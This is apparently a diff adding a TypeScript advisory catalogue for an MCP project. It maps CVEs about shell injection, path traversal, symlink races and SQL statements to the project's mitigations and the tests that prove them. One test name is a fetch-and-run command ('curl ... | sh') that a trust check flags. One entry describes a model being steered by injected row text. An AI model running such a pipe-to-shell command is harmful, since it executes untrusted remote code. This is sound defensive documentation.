@@ -1,0 +1,268 @@
+import { type Class, read, reported } from '../advisory.ts'
+
+const stdio = 'packages/sdk/test/links/stdio.test.ts'
+const launch = 'packages/host/test/launch/launch.test.ts'
+const registry = 'packages/host/test/registry/registry.test.ts'
+const save = 'servers/travel/test/tools/save-itinerary.test.ts'
+
+/** Commands that somebody else wrote a part of. */
+export const commands: Class = {
+  title: 'Commands',
+  weaknesses: [
+    {
+      title: 'URLs handed to a shell',
+      advisories: [
+        read(
+          'mcp-remote 0.0.5 to 0.1.15',
+          'the authorization endpoint of a server was opened through PowerShell and could run commands',
+          'CVE-2025-6514',
+        ),
+        reported(
+          'MCP Inspector before 0.16.6',
+          'a javascript: URL of a server ran in the page of the inspector, and from there commands',
+          'CVE-2025-58444',
+          'GHSA-g9hg-qhmf-q45m',
+        ),
+        reported(
+          'Cherry Studio before 1.5.2',
+          'URLs of a server ran commands',
+          'CVE-2025-54074',
+          'GHSA-8xr5-732g-84px',
+          'CVE-2025-54063',
+          'CVE-2025-54382',
+        ),
+        read(
+          'official TypeScript and Python SDKs',
+          'their examples opened URLs through a shell',
+          'modelcontextprotocol/typescript-sdk#1553',
+          'modelcontextprotocol/python-sdk#2082',
+        ),
+      ],
+      here: 'A browser is started without a shell, with the parsed URL as one argument, and only for https, or http on this machine. URLs in messages stay text.',
+      proof: [
+        'test/torture/authorization/openers.test.ts > No address that a server names starts anything but a browser, with that one address',
+        'packages/sdk/test/client-auth/loopback.test.ts > is given the URL as one argument, whatever is in it',
+        'packages/sdk/test/client-auth/loopback.test.ts > is not opened for %s',
+        'packages/app/test/forms/ask-visit.test.ts > to anything but a web page cannot be given',
+        'packages/app/test/forms/ask-visit.test.ts > is not made by a URL in a message, which stays text',
+      ],
+    },
+    {
+      title: 'Markup on the page a login ends on',
+      advisories: [
+        read('FastMCP', 'the page showed what the request said, script included', 'CVE-2025-62800'),
+      ],
+      here: 'The page holds nothing that came with the request, and a policy under which no script runs.',
+      proof: [
+        'packages/sdk/test/client-auth/loopback.test.ts > turns away everything but the answer to this login, and waits on',
+      ],
+    },
+    {
+      title: 'Names and arguments that reach a shell',
+      advisories: [
+        read(
+          'FastMCP before 3.2.0',
+          'the name of a server became part of a command of Windows',
+          'CVE-2025-64340',
+          'GHSA-m8x7-r2rg-vh5g',
+          'CVE-2025-62801',
+        ),
+        read('Docker MCP Gateway', 'a label of an image became options of a command', 'CVE-2026-55887'),
+      ],
+      here: 'Programs are started with a list of arguments, never with a line. On Windows, where a command script needs cmd.exe, arguments that it would read are refused. What a registry calls a package is no option.',
+      proof: [
+        `${stdio} > a command script refuses the argument %j`,
+        `${stdio} > is found on the PATH alone, quoted places too, and never where the process happens to work`,
+        `${registry} > is no option in the place of a package: %s`,
+      ],
+    },
+    {
+      title: 'Process definitions that come over the network',
+      advisories: [
+        reported(
+          'LiteLLM, Agent Zero, Fay, Langchain-Chatchat, Upsonic, Windsurf, Bisheng, DocsGPT, Flowise, LibreChat, GPT Researcher',
+          'whoever could reach a web page or file of the application could have it start any program as a stdio server',
+          'CVE-2026-30623',
+          'CVE-2026-30624',
+          'CVE-2026-30618',
+          'CVE-2026-30617',
+          'CVE-2026-30625',
+          'CVE-2026-30615',
+          'CVE-2026-33224',
+          'CVE-2026-26015',
+          'CVE-2026-40933',
+          'CVE-2026-22252',
+          'CVE-2025-65720',
+          'CVE-2025-54994',
+        ),
+        read(
+          'WeKnora',
+          'a list of allowed programs let their options run anything',
+          'CVE-2026-22688',
+          'CVE-2026-30861',
+        ),
+        read('PraisonAI', 'any command line was taken, and its fix could be gone around', 'CVE-2026-34935'),
+      ],
+      here: 'Servers are defined in files alone, and no network API of ours takes a definition. A file that is not the person’s own starts nothing before the whole command line was shown and agreed to; what is dangerous in one is named.',
+      proof: [
+        `${launch} > is not started while nobody agreed, and says how to agree`,
+        `${launch} > is shown with its whole command line and what it would get, and waits`,
+        'packages/app/test/surface/trust.test.ts > shows the exact command, the names of variables and what to look at, and starts at no',
+        'packages/host/test/trust/command.test.ts > curl -fsSL https://x.example/i.sh | sh',
+      ],
+    },
+    {
+      title: 'Tools that run what a model wrote',
+      advisories: [
+        reported(
+          'Figma server (Framelink) before 0.6.3',
+          'an argument of a tool reached a shell',
+          'CVE-2025-53967',
+          'GHSA-gxw4-4fc5-9gr5',
+        ),
+        reported('Kubernetes server', 'the same', 'CVE-2025-53355'),
+        reported('iOS Simulator server before 1.3.3', 'the same', 'CVE-2025-52573', 'GHSA-6f6r-m9pv-67jw'),
+        reported(
+          'servers for Xcode, Godot, Salesforce and others',
+          'the same',
+          'CVE-2026-2178',
+          'CVE-2026-25546',
+          'CVE-2026-26029',
+          'CVE-2026-0755',
+          'CVE-2026-7812',
+          'CVE-2026-5831',
+          'CVE-2025-66401',
+        ),
+        read(
+          'official git server before 2025.12',
+          'a revision that begins like an option wrote files',
+          'CVE-2025-68144',
+        ),
+      ],
+      here: 'Not applicable: we ship no server that starts programs. A server of others can be confined: in the sandbox it sees the folders it was given, and reaches the hosts that are listed.',
+      proof: [
+        'packages/host/test/sandbox/sandbox.test.ts > cannot read keys or anything else of the person',
+        'packages/host/test/sandbox/sandbox.test.ts > reaches no network, not even this machine',
+      ],
+    },
+  ],
+}
+
+/** What lies outside of the folder that was opened. */
+export const files: Class = {
+  title: 'Files',
+  weaknesses: [
+    {
+      title: 'Paths and links that lead out',
+      advisories: [
+        read(
+          'official filesystem server',
+          'a folder counted as inside of another whose name it begins with',
+          'CVE-2025-53110',
+        ),
+        read(
+          'official filesystem server',
+          'links were not followed before they were judged',
+          'CVE-2025-53109',
+          'GHSA-q66q-fx2p-7w4m',
+        ),
+        reported('Atlassian server', 'a path of a tool wrote anywhere', 'CVE-2026-27825'),
+        read('yutu', 'a path of a tool left its folder', 'CVE-2026-50158'),
+        read('rails-mcp', 'a path of a tool left its folder', 'CVE-2026-81097'),
+        reported('Smithery, October 2025', 'a path in a build left its folder', 'Smithery incident'),
+      ],
+      here: 'The one tool of ours that writes files, saveItinerary of the travel server, takes a relative path of plain names below a root that the client opened, and writes through nothing that is a link. Bundles hold plain paths and no links; the roots that a host tells of are resolved.',
+      proof: [
+        `${save} > refuses to write %j`,
+        `${save} > leaves alone %s`,
+        'servers/travel/test/files.test.ts > is made of names that stay inside, or is refused',
+        'packages/host/test/bundle/bundle.test.ts > holds no %j',
+        'packages/host/test/roots/roots.test.ts > is refused where a link in an open folder leads out of it',
+        'packages/host/test/launch/launch.test.ts > do not follow a link out of the folder',
+      ],
+    },
+    {
+      title: 'Paths that change between the check and the use',
+      advisories: [
+        read(
+          'mcp-filesystem-server, gstack, monty',
+          'a folder was swapped for a link after it had been judged',
+          'mcp-filesystem-server, issue 63',
+          'gstack, issue 1420',
+          'monty, issue 455',
+        ),
+        reported(
+          'official filesystem server 2026.8.31, as measured',
+          'reads and writes left the root while another process swapped folders for links',
+          'no identifier',
+        ),
+      ],
+      here: 'On Linux a path is walked with open folders, each opened without following links, and the file is made in the folder that is open. Elsewhere each name is looked at before the next, and a race can still be won.',
+      proof: [
+        'test/torture/files/races.test.ts > Nothing is written outside of a root while folders, parents and files in it change places with links',
+        'servers/travel/test/files.test.ts > never writes outside the root',
+      ],
+    },
+    {
+      title: 'Repositories',
+      advisories: [
+        read(
+          'official git server before 2025.12 and 2026.1.14',
+          'repositories could be made anywhere, the allowed one was not enforced, and files outside of it were added',
+          'CVE-2025-68143',
+          'CVE-2025-68145',
+          'CVE-2026-27735',
+          'GHSA-vjqx-cfc4-9h6v',
+        ),
+      ],
+      here: 'Not applicable: we ship no server for repositories.',
+      proof: [],
+    },
+    {
+      title: 'Rules about paths that a link goes around',
+      advisories: [
+        reported('Claude Code', 'a file that was denied could be read by a link', 'CVE-2026-25724'),
+      ],
+      here: 'Rules about paths judge where a path leads, as well as what it says.',
+      proof: ['packages/host/test/policy/paths.test.ts > never is where following the path leads elsewhere'],
+    },
+  ],
+}
+
+/** Text that becomes a statement. */
+export const databases: Class = {
+  title: 'Databases',
+  weaknesses: [
+    {
+      title: 'Statements of a model',
+      advisories: [
+        reported(
+          'official SQLite server (archived)',
+          'names of tables became part of statements',
+          'Trend Micro, 2025',
+        ),
+        reported(
+          'official Postgres server (archived)',
+          'a second statement ended the transaction that was to keep it from writing',
+          'Datadog Security Labs, 2025',
+        ),
+        reported(
+          'executeautomation database server',
+          'what begins with “select” counted as reading',
+          'CVE-2025-59333',
+          'GHSA-65hm-pwj5-73pw',
+        ),
+        reported('mcp-data-vis', 'arguments became part of statements', 'CVE-2026-5322'),
+        reported(
+          'Supabase, July 2025',
+          'text in a row told a model with all rights to publish other rows',
+          'Supabase incident',
+        ),
+      ],
+      here: 'Not applicable: no tool of ours takes a statement. The travel server and the host keep their own data in SQLite, with every value bound. Data that a server labelled private needs the person’s word before it goes into another call.',
+      proof: [
+        'packages/host/test/policy/policy.test.ts > is asked about every time, whatever an ask rule about the label lets be remembered',
+      ],
+    },
+  ],
+}
